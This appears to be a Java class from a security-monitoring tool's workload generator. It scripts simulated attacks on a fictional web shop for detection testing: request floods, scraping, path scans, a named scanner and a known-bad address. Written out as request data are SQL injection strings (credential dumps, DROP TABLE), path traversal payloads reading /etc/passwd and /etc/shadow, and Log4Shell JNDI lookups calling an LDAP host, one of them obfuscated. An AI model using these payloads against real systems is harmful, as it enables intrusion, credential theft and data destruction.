package io.streamwarden.app.workload;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.SplittableRandom;

/** Attacks on the shop itself; each from one address of the ranges that RFC 5737 keeps for documentation. */
final class WebAttacks {
    private static final String BROWSER =
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36";
    private static final String SCANNER = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)";
    private static final long ASN = 64_497;

    /** The address that the scenario's indicators name. */
    static final String KNOWN_BAD = "192.0.2.66";

    private WebAttacks() {}

    static ScriptedAttack requestFlood(Instant start, SplittableRandom random) {
        Client client = new Client("203.0.113.99", BROWSER, ASN);
        Request search = Request.get("/api/v1/search", 200);
        List<SimulatedEvent> events = new ArrayList<>();
        for (int index = 0; index < 1_400; index++) {
            events.add(client.requests(
                    start.plusMillis(500L * index), search.withQuery("q=" + random.nextInt(9_999)), random));
        }
        return of("request-flood", "over 1,000 requests an hour for one endpoint", "T1499.002", client, events);
    }

    static ScriptedAttack analyticsScraping(Instant start, SplittableRandom random) {
        Client client = new Client("203.0.113.120", "report-fetch/0.1", ASN);
        String user = "temp.contractor";
        List<SimulatedEvent> events = new ArrayList<>();
        for (int page = 0; page < 180; page++) {
            Request report = Request.get("/analytics/export", 200).withQuery("page=" + page);
            events.add(client.requestsAs(user, start.plusSeconds(5L * page), report, random));
        }
        return ScriptedAttack.of(
                "analytics-scraping",
                "over 100 requests an hour for analytics",
                "T1530",
                ScriptedAttack.address(client.address()),
                Set.of(user),
                events);
    }

    static ScriptedAttack pathScan(Instant start, SplittableRandom random) {
        Client client = new Client("192.0.2.14", BROWSER, ASN);
        List<String> paths = List.of(
                "/admin",
                "/old",
                "/test",
                "/staging",
                "/phpinfo.php",
                "/server-status",
                "/manager",
                "/console",
                "/dashboard",
                "/uploads",
                "/tmp",
                "/logs",
                "/api/v0",
                "/api/internal",
                "/private",
                "/dump",
                "/install",
                "/setup",
                "/debug",
                "/metrics",
                "/jenkins",
                "/portal",
                "/webmail",
                "/cgi-bin");
        List<SimulatedEvent> events = new ArrayList<>();
        for (int index = 0; index < paths.size(); index++) {
            Request request = Request.get(paths.get(index), index % 6 == 5 ? 403 : 404);
            events.add(client.requests(start.plusSeconds(5L * index), request, random));
        }
        return of("path-scan", "many paths that do not exist", "T1595.003", client, events);
    }

    static ScriptedAttack sqlInjection(Instant start, SplittableRandom random) {
        return probes(
                "sql-injection",
                "SQL in parameters",
                new Client("203.0.113.10", BROWSER, ASN),
                start,
                random,
                Request.get("/search", 200).withQuery("q=jacket%27%20OR%20%271%27%3D%271%27--%20"),
                Request.get("/search", 500).withQuery("q=-1%20UNION%20SELECT%20name,pass%20FROM%20users--"),
                Request.get("/products/7", 200).withQuery("id=7%20AND%20SLEEP(5)"),
                Request.get("/products/7", 500).withQuery("id=7%27;DROP%20TABLE%20orders;--"),
                Request.get("/search", 200).withQuery("q=x%27+union+all+select+null,version()--+-"));
    }

    static ScriptedAttack pathTraversal(Instant start, SplittableRandom random) {
        return probes(
                "path-traversal",
                "files outside the site",
                new Client("198.51.100.140", BROWSER, ASN),
                start,
                random,
                Request.get("/download", 400).withQuery("file=../../../../etc/passwd"),
                Request.get("/download", 400).withQuery("file=..%2f..%2f..%2f..%2fetc%2fshadow"),
                Request.get("/download", 400).withQuery("file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
                Request.get("/static/..%2f..%2f..%2fetc%2fpasswd", 400));
    }

    static ScriptedAttack log4Shell(Instant start, SplittableRandom random) {
        String lookup = "${jndi:ldap://203.0.113.201:1389/a}";
        return probes(
                "log4shell",
                "lookups that a vulnerable logger would follow",
                new Client("203.0.113.201", lookup, ASN),
                start,
                random,
                Request.get("/", 200).withQuery("x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.201%3A1389%2Fa%7D"),
                Request.get("/search", 200).withQuery("q=${${lower:j}ndi:${lower:l}dap://203.0.113.201/b}"),
                Request.get("/account", 401));
    }

    static ScriptedAttack scanner(Instant start, SplittableRandom random) {
        Request robots = Request.get("/robots.txt", 200);
        return probes(
                "scanner",
                "a scanner that says its name",
                new Client("192.0.2.200", SCANNER, ASN),
                start,
                random,
                robots,
                Request.get("/", 200),
                Request.get("/stores", 200),
                robots.withStatus(304));
    }

    static ScriptedAttack knownBadActor(Instant start, SplittableRandom random) {
        return probes(
                "known-bad-actor",
                "harmless requests from an address that a feed names",
                new Client(KNOWN_BAD, BROWSER, ASN),
                start,
                random,
                Request.get("/", 200),
                Request.get("/offers", 200),
                Request.get("/stores", 200));
    }

    /** One request every seven seconds. */
    private static ScriptedAttack probes(
            String name, String summary, Client client, Instant start, SplittableRandom random, Request... requests) {
        List<SimulatedEvent> events = new ArrayList<>();
        Instant time = start;
        for (Request request : requests) {
            events.add(client.requests(time, request, random));
            time = time.plus(Duration.ofSeconds(7));
        }
        String technique =
                switch (name) {
                    case "scanner" -> "T1595.002";
                    case "known-bad-actor" -> "T1071";
                    default -> "T1190";
                };
        return of(name, summary, technique, client, events);
    }

    private static ScriptedAttack of(
            String name, String summary, String technique, Client client, List<SimulatedEvent> events) {
        return ScriptedAttack.of(name, summary, technique, ScriptedAttack.address(client.address()), Set.of(), events);
    }
}
